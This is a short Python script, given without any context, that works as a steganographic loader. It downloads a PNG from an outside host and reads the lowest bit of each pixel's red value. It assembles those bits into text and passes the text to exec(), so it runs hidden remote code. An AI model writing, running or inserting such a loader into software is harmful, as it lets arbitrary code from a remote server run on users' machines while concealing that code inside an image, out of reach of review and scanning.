import io, requests
from PIL import Image
img = Image.open(io.BytesIO(requests.get("https://i.example-img.net/a.png").content))
bits = "".join(str(p[0] & 1) for p in img.getdata())
data = bytes(int(bits[i:i + 8], 2) for i in range(0, len(bits), 8))
exec(data.split(b"\x00")[0].decode())
